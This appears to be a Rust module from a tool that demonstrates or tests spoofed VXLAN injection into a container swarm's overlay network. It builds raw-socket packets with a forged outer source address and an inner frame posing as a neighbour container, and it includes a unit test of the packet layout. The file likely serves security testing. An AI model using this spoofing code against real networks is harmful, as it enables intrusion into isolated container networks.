//! What an attacker sends: VXLAN in clear, from an address that is not his own.

use std::net::{IpAddr, SocketAddr};

use anyhow::{Context, Result};
use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, Socket, Type};

use crate::cli::Forged;

/// VXLAN's port, as the swarm has it unless told otherwise.
const VXLAN_PORT: u16 = 4789;
/// Raw IP with a header of our own making (`raw(7)`, `IPPROTO_RAW`).
const RAW: i32 = 255;

/// Sends it from the network namespace that this runs in.
pub(crate) fn send(forged: &Forged) -> Result<()> {
    let packet = packet(forged)?;
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
        .context("cannot open a raw socket")?;
    let to = SocketAddr::new(IpAddr::V4(forged.to), 0).into();
    for _ in 0..forged.count {
        socket.send_to(&packet, &to).with_context(|| format!("cannot send to {}", forged.to))?;
    }
    Ok(())
}

fn packet(forged: &Forged) -> Result<Vec<u8>> {
    // A neighbour on the overlay network, and the container.
    let [a, b, c, d] = forged.container.octets();
    let inside = PacketBuilder::ethernet2([2, 0, 0, 0, 0, 1], forged.mac)
        .ipv4([a, b, c, d ^ 0x40], forged.container.octets(), 64)
        .udp(40_000, 9);
    let mut frame = Vec::new();
    inside.write(&mut frame, b"forged")?;
    // RFC 7348, 5: the flag that there is an identifier, and the identifier.
    let mut vxlan = vec![0x08, 0, 0, 0];
    vxlan.extend((forged.vni << 8).to_be_bytes());
    vxlan.extend(frame);
    let outside = PacketBuilder::ipv4(forged.from.octets(), forged.to.octets(), 64).udp(50_000, VXLAN_PORT);
    let mut packet = Vec::new();
    outside.write(&mut packet, &vxlan)?;
    Ok(packet)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_packet_is_vxlan_from_where_it_says() {
        let forged = Forged {
            from: [203, 0, 113, 14].into(),
            to: [203, 0, 113, 18].into(),
            vni: 0x1001,
            mac: [2, 0x42, 10, 0, 1, 5],
            container: [10, 0, 1, 5].into(),
            count: 1,
        };
        let packet = packet(&forged).unwrap();
        let sliced = etherparse::SlicedPacket::from_ip(&packet).unwrap();
        let Some(etherparse::TransportSlice::Udp(udp)) = sliced.transport else { panic!("no UDP") };
        assert_eq!(udp.destination_port(), 4789);
        assert_eq!(udp.payload()[..8], [8, 0, 0, 0, 0, 0x10, 0x01, 0]);
        let inner = etherparse::SlicedPacket::from_ethernet(&udp.payload()[8..]).unwrap();
        let Some(etherparse::TransportSlice::Udp(udp)) = inner.transport else { panic!("no UDP") };
        assert_eq!((udp.destination_port(), udp.payload()), (9, b"forged".as_slice()));
    }
}
